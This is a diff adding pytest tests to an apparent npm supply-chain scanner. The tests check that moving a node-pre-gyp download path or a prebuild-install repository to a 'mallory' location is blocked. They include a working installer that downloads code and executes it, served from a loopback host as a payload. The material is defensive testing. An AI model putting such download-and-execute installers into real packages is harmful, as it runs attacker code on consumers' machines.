@@ -495,3 +495,99 @@ def test_type_declarations_are_not_executable_under_a_fail_closed(tmp_path: Path
     base = with_install("node i.js", {"i.js": "require(pick())\n", "lib/a.js": "a\n", "types/a.d.ts": "export {}\n"})
     result = pair(tmp_path, base, {"lib/a.js": "b\n", "types/a.d.ts": "export const x: 1\n"})
     assert [(f.rule, f.file) for f in result.findings] == [("install-script-code-changed", "lib/a.js")]
+
+
+# ------------------------------------------------------------------ issue 22: installer download config by full URL
+
+#: A node-pre-gyp-shaped installer: it composes `binary.host` + `remote_path` + `package_name` (with
+#: `{version}`) as node-pre-gyp does, downloads that file and runs it.
+_FETCH_AND_RUN = """const pkg = require('./package.json')
+const b = pkg.binary
+const url = (b.host + b.remote_path + '/' + b.package_name).replace(/\\{version\\}/g, pkg.version)
+require('http').get(url, (res) => {
+  let body = ''
+  res.on('data', (d) => { body += d })
+  res.on('end', () => { if (res.statusCode === 200) new Function('require', body)(require) })
+})
+"""
+
+
+@pytest.fixture
+def download_host():
+    """A loopback download host: the owner's release folder (harmless) and another path on it (a payload)."""
+    import http.server
+    import threading
+
+    files = {
+        "/acme/x/releases/download/v1.0.0/x.js": b"1\n",
+        "/acme/x/releases/download/v1.0.1/x.js": b"1\n",
+        "/mallory/x/releases/download/v1.0.1/x.js": _PWN.encode(),
+    }
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            body = files.get(self.path)
+            self.send_response(200 if body else 404)
+            self.end_headers()
+            self.wfile.write(body or b"")
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}/"
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.mark.parametrize("field", ["remote_path", "host"])
+def test_installer_download_moved_to_another_path_on_the_same_host_blocks(
+    field: str, download_host: str, tmp_path: Path
+) -> None:
+    """The miss: `binary.remote_path` (or the path inside `host`) moved to another repository on the same host was
+    only `install-data-changed` (a warning), as the host compared equal; a consumer's install runs what the new
+    path serves. The version moving inside the path stays at the same location (warns as data)."""
+    binary = {"module_name": "x", "host": download_host, "remote_path": "acme/x/releases/download/v{version}",
+              "package_name": "x.js"}  # fmt: skip
+    moved = dict(binary)
+    if field == "remote_path":
+        moved["remote_path"] = "mallory/x/releases/download/v{version}"
+    else:
+        moved["host"], moved["remote_path"] = download_host + "mallory/", "x/releases/download/v{version}"
+    fields = {"scripts": {"install": "node install.js"}}
+    base = {"package.json": manifest(**fields, binary=binary), "install.js": _FETCH_AND_RUN}
+    cand = {**base, "package.json": manifest(version="1.0.1", **fields, binary=moved)}
+    assert not (_consumer_install(base, tmp_path / "b") / "pwned").exists(), "premise: the base is harmless"
+    assert (_consumer_install(cand, tmp_path / "c") / "pwned").exists(), "premise: npm install runs the payload"
+    result = pair(tmp_path, base, {"package.json": cand["package.json"]})
+    [f] = result.findings
+    assert f.rule == "install-download-changed" and f.blocks and "mallory" in f.message, result.findings
+    # the same release with the version inside the path bumped literally, or a field outside the URL renamed
+    literal = {**binary, "remote_path": "acme/x/releases/download/v1.0.0"}
+    same = {**literal, "remote_path": "acme/x/releases/download/v1.0.1", "module_name": "y"}
+    base = {**base, "package.json": manifest(**fields, binary=literal)}
+    quiet = pair(tmp_path, base, {"package.json": manifest(version="1.0.1", **fields, binary=same)})
+    assert rules(quiet) == ["install-data-changed"], quiet.findings
+
+
+def test_installer_module_path_and_prebuild_install_repository_are_download_locations(tmp_path: Path) -> None:
+    """node-pre-gyp's `module_path` is where the downloaded binary lands and is loaded from; prebuild-install
+    downloads from the GitHub releases of package.json `repository`."""
+    binary = {"module_name": "x", "module_path": "./lib/binding/{node_abi}", "host": "https://github.com/acme/x/"}
+    fields = {"scripts": {"install": "node-pre-gyp install"}}
+    base = {"package.json": manifest(**fields, binary=binary)}
+    moved = {"package.json": manifest(version="1.0.1", **fields, binary={**binary, "module_path": "./lib/"})}
+    [f] = pair(tmp_path, base, moved).findings
+    assert f.rule == "install-download-changed" and "file:///lib" in f.message
+    fields = {"scripts": {"install": "prebuild-install || node-gyp rebuild"}}
+    repo = {"type": "git", "url": "git+https://github.com/acme/x.git"}
+    base = {"package.json": manifest(**fields, repository=repo), "binding.gyp": "{'targets': []}"}
+    other = {**repo, "url": "git+https://github.com/mallory/x.git"}
+    [g] = pair(tmp_path, base, {"package.json": manifest(version="1.0.1", **fields, repository=other)}).findings
+    assert g.rule == "install-download-changed" and "mallory" in g.message
+    # without prebuild-install the repository is metadata
+    base = {"package.json": manifest(scripts={"install": "node i.js"}, repository=repo), "i.js": "1\n"}
+    assert pair(tmp_path, base, {"package.json": manifest(version="1.0.1", scripts={"install": "node i.js"},
+                                                          repository=other)}).findings == []  # fmt: skip
